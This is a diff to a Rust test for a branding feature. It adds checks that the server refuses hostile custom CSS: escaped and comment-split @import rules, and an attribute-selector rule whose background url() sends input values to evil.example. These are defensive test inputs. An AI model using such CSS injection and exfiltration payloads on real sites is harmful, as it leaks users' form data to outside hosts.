@@ -42,6 +42,40 @@ async fn a_providers_brand_reaches_its_own_sites_only_and_stays_readable() {
         "{}",
         yellow.text
     );
+    // The stylesheet is read by a CSS parser: an escaped or commented @import, or a url()
+    // to another origin, is refused with the field and the line.
+    for css in [
+        "@\\69mport 'https://evil.example/x.css';",
+        "@/**/import 'x.css';",
+        "input[value^=a] {\n  background: url(https://evil.example/?a);\n}",
+    ] {
+        let refused = put(boss.clone(), "acme", json!({ "css": css })).await;
+        assert_eq!(
+            refused.status,
+            StatusCode::UNPROCESSABLE_ENTITY,
+            "{css}: {}",
+            refused.text
+        );
+        assert_eq!(
+            refused.body["errors"][0]["field"], "/css",
+            "{}",
+            refused.text
+        );
+    }
+    let refused = put(
+        boss.clone(),
+        "acme",
+        json!({ "css": "input[value^=a] {\n  background: url(https://evil.example/?a);\n}" }),
+    )
+    .await;
+    assert!(
+        refused.body["errors"][0]["message"]
+            .as_str()
+            .unwrap()
+            .ends_with("(line 2)"),
+        "{}",
+        refused.text
+    );
     let purple = put(
         boss.clone(),
         "acme",
